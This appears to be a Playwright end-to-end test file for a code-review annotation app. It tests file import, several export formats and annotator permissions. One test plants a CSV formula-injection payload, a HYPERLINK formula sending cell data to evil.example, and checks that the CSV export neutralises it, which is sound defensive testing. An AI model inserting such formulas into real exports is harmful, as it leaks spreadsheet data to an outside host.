import { parse } from "csv-parse/sync";
import { expect, test, type Download } from "@playwright/test";
import JSZip from "jszip";
import { E2E_ACCOUNTS, signIn, testDb } from "./fixtures";

const textOf = async (download: Download) => Buffer.concat(await (await download.createReadStream()).toArray()).toString("utf8");

const line = (id: string, reviewText: string) =>
  JSON.stringify({
    id,
    language: "python",
    diff: "@@ -1 +1 @@\n-x = 1\n+x = 2\n",
    oldFile: "x = 1\n",
    newFile: "x = 2\n",
    pseudoReferences: [{ id: "c1", text: "The change sets x to 2.", kind: "CLAIM", source: "gpt-4o" }],
    reviews: [
      { id: "human", system: "human", text: "Why 2?", isReference: true },
      { id: "m1", system: "llama3", text: reviewText },
    ],
  });

test("a lead previews an upload, sees every error of a bad file, imports a good one and downloads it", async ({ page }) => {
  await signIn(page, E2E_ACCOUNTS.lead);
  await page.goto("/studies/upload-e2e/import");
  const form = page.getByRole("form", { name: "Import files" });
  await form.getByLabel("Format").selectOption("jsonl");

  await form.getByLabel("Files", { exact: true }).setInputFiles({ name: "bad.jsonl", mimeType: "application/jsonl", buffer: Buffer.from(`${line("a", "ok")}\n{"id": "b"}\nnot json\n`) });
  await form.getByRole("button", { name: "Import" }).click();
  const refused = page.getByRole("region", { name: "Import refused" });
  await expect(refused).toContainText("nothing was written");
  await expect(page.getByTestId("import-errors")).toContainText("bad.jsonl:2");
  await expect(page.getByTestId("import-errors")).toContainText("bad.jsonl:3");
  expect(await testDb().study.count({ where: { slug: "upload-e2e" } })).toBe(0);

  await form.getByLabel("Files", { exact: true }).setInputFiles({ name: "good.jsonl", mimeType: "application/jsonl", buffer: Buffer.from(`${line("a", "Looks fine.")}\n${line("b", "Rename x.")}\n`) });
  await form.getByRole("button", { name: "Preview" }).click();
  const preview = page.getByRole("region", { name: "Import preview" });
  await expect(preview).toBeVisible();
  // in the product's words; the study has no page before the import
  await expect(preview).toContainText("New study upload-e2e");
  await expect(preview.getByTestId("import-study-link")).toHaveCount(0);
  await expect(preview.getByTestId("import-counts").locator("tbody td:first-child")).toHaveText(["code changes", "pseudo-references (claims and smells)", "reviews"]);
  await expect(preview).not.toContainText(/pseudoReferences|codeChanges|reviewClaimLinks/);
  expect(await testDb().codeChange.count({ where: { study: { slug: "upload-e2e" } } })).toBe(0);

  await form.getByRole("button", { name: "Import" }).click();
  const done = page.getByRole("region", { name: "Import done" });
  await expect(done).toBeVisible();
  await expect(done).toContainText("(created by this import)");
  await expect(done.getByTestId("import-counts").locator("tbody tr").first().locator("td")).toHaveText(["code changes", "2", "0", "0"]);
  expect(await testDb().codeChange.count({ where: { study: { slug: "upload-e2e" } } })).toBe(2);
  expect(await testDb().review.count({ where: { codeChange: { study: { slug: "upload-e2e" } } } })).toBe(4);

  await done.getByTestId("import-study-link").click();
  await expect(page).toHaveURL(/\/studies\/upload-e2e$/);
  const download = page.waitForEvent("download");
  await page.getByRole("link", { name: /^JSONL/ }).click();
  const file = await download;
  expect(file.suggestedFilename()).toBe("upload-e2e.jsonl");
  const exported = (await textOf(file)).trim().split("\n").map((l) => JSON.parse(l) as { id: string; reviews: unknown[] });
  expect(exported.map((e) => e.id).sort()).toEqual(["a", "b"]);
  expect(exported[0].reviews).toHaveLength(2);

  // Nobody has annotated or graded: only the JSONL is offered, and the route refuses the others.
  await expect(page.getByRole("link", { name: /CSV|JSONL$/ })).toHaveCount(0);
  await expect(page.getByRole("form", { name: "GradedReviews workbook" })).toHaveCount(0);
  await expect(page.getByTestId("exports-not-offered")).toContainText("once reviews are graded");
  for (const format of ["long-csv", "gradedreviews"]) {
    const refused = await page.request.get(`/api/studies/upload-e2e/export?format=${format}`);
    expect(refused.status()).toBe(409);
    expect((await refused.json()).error).toMatch(/^This study has no (annotations|reference grades) yet/);
  }
});

test("the demo study's downloads have distinct names, and a note that starts a formula comes out of the long CSV as text", async ({ page }) => {
  const db = testDb();
  const study = await db.study.findUniqueOrThrow({ where: { slug: "demo" } });
  const hyperlink = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
  const judgement = await db.claimJudgement.findFirstOrThrow({ where: { pseudoReference: { codeChange: { studyId: study.id } } }, orderBy: { id: "asc" }, include: { annotator: true, pseudoReference: true } });
  // A known answer (gold) on a review nobody decided, so the page offers the exports with gold items.
  const decided = (await db.consensus.findMany({ where: { studyId: study.id }, select: { itemId: true } })).map((c) => c.itemId);
  const review = await db.review.findFirstOrThrow({ where: { codeChange: { studyId: study.id }, isReference: false, id: { notIn: decided } }, orderBy: { id: "asc" } });
  const lead = await db.account.findUniqueOrThrow({ where: { email: E2E_ACCOUNTS.lead.email } });
  const gold = await db.consensus.create({ data: { studyId: study.id, task: "REFERENCE_GRADING", itemId: review.id, question: "grade", value: 3, decidedById: lead.id, gold: true } });
  await db.claimJudgement.update({ where: { id: judgement.id }, data: { note: hyperlink } });
  try {
    await signIn(page, E2E_ACCOUNTS.lead);
    await page.goto("/studies/demo");
    const downloads: Record<string, Download> = {};
    const links = page.getByLabel("Downloads").locator("a[download]");
    for (let i = 0; i < (await links.count()); i++) {
      const downloading = page.waitForEvent("download");
      await links.nth(i).click();
      const file = await downloading;
      downloads[file.suggestedFilename()] = file;
    }
    const workbook = page.getByRole("form", { name: "GradedReviews workbook" });
    for (const withGold of [false, true]) {
      await workbook.getByLabel("with gold items").setChecked(withGold);
      const downloading = page.waitForEvent("download");
      await workbook.getByRole("button", { name: "Download" }).click();
      const file = await downloading;
      downloads[file.suggestedFilename()] = file;
    }
    expect(Object.keys(downloads)).toEqual(["demo.jsonl", "demo.long.csv", "demo.long.jsonl", "demo.wide.csv", "demo.wide.jsonl", "demo.github-comments.jsonl", "demo.long.gold.csv", "demo.gradedreviews.xlsx", "demo.gradedreviews.gold.xlsx"]);
    // Downloaded again, every file is the same bytes.
    for (const file of Object.values(downloads)) {
      const again = await page.request.get(file.url());
      expect(Buffer.compare(await again.body(), Buffer.concat(await (await file.createReadStream()).toArray())), file.suggestedFilename()).toBe(0);
    }

    const rows = parse(await textOf(downloads["demo.long.csv"]), { columns: true }) as Record<string, string>[];
    const note = rows.find((r) => r.annotatorId === judgement.annotatorId && r.item === judgement.pseudoReference.externalId && r.question === "note");
    expect(note).toMatchObject({ value: `'${hyperlink}`, itemText: judgement.pseudoReference.text });
    const jsonl = (await textOf(downloads["demo.long.jsonl"])).trimEnd().split("\n").map((line) => JSON.parse(line) as Record<string, unknown>);
    expect(jsonl.find((r) => r.annotatorId === judgement.annotatorId && r.item === judgement.pseudoReference.externalId && r.question === "note")).toMatchObject({ value: hyperlink });
  } finally {
    await db.claimJudgement.update({ where: { id: judgement.id }, data: { note: judgement.note } });
    await db.consensus.delete({ where: { id: gold.id } });
  }
});

test("a lead downloads the answers as a Hugging Face dataset (a ZIP of Parquet tables and a dataset card) and as Parquet tables; a licence that is no identifier is refused", async ({ page }) => {
  const { parquetReadObjects } = await import("hyparquet");
  await signIn(page, E2E_ACCOUNTS.lead);
  await page.goto("/studies/demo");
  const long = (await (await page.request.get("/api/studies/demo/export?format=long-jsonl")).text()).trimEnd().split("\n").map((row) => JSON.parse(row) as { task: string });
  const form = page.getByRole("form", { name: "Dataset download" });
  await form.getByLabel("licence (SPDX)").fill("cc-by-4.0");
  await page.getByLabel("Downloads").screenshot({ path: test.info().outputPath("downloads.png") });
  const downloading = page.waitForEvent("download");
  await form.getByRole("button", { name: "Download" }).click();
  const file = await downloading;
  expect(file.suggestedFilename()).toBe("demo.hf.zip");
  const archive = await JSZip.loadAsync(Buffer.concat(await (await file.createReadStream()).toArray()));
  const names = Object.values(archive.files).filter((entry) => !entry.dir).map((entry) => entry.name);
  expect(names).toContain("demo.hf/README.md");
  const card = await archive.file("demo.hf/README.md")!.async("string");
  expect(card).toMatch(/^---\nlicense: cc-by-4.0\n/);
  const tables = names.filter((name) => name.startsWith("demo.hf/data/"));
  const rows: { task: string }[] = [];
  for (const name of tables) {
    expect(card).toContain(`data_files: ${name.slice("demo.hf/".length)}`);
    rows.push(...((await parquetReadObjects({ file: (await archive.file(name)!.async("uint8array")).slice().buffer })) as { task: string }[]));
  }
  expect(rows.map((r) => r.task).sort()).toEqual(long.map((r) => r.task).sort());

  await form.getByLabel("Dataset as").selectOption("parquet");
  const parquet = page.waitForEvent("download");
  await form.getByRole("button", { name: "Download" }).click();
  const parquetFile = await parquet;
  expect(parquetFile.suggestedFilename()).toBe("demo.parquet.zip");
  const parquetNames = Object.keys((await JSZip.loadAsync(Buffer.concat(await (await parquetFile.createReadStream()).toArray()))).files).filter((n) => n.endsWith(".parquet"));
  expect(parquetNames.sort()).toEqual(tables.map((name) => name.replace("demo.hf/data/", "demo.parquet/")).sort());

  const refused = await page.request.get("/api/studies/demo/export?format=hf&license=cc%20by");
  expect(refused.status()).toBe(400);
  expect(await refused.text()).toContain("license");
});

test("an annotator can neither import nor export", async ({ page }) => {
  await signIn(page, E2E_ACCOUNTS.ann1);
  expect((await page.request.get("/api/studies/demo/export?format=jsonl")).status()).toBe(403);
  const upload = await page.request.post("/api/studies/demo/import", { multipart: { format: "jsonl", files: { name: "x.jsonl", mimeType: "application/jsonl", buffer: Buffer.from(line("z", "x")) } } });
  expect(upload.status()).toBe(403);
  expect((await page.goto("/studies/demo/import"))?.status()).toBe(403);
  expect(await testDb().codeChange.count({ where: { externalId: "z" } })).toBe(0);
});
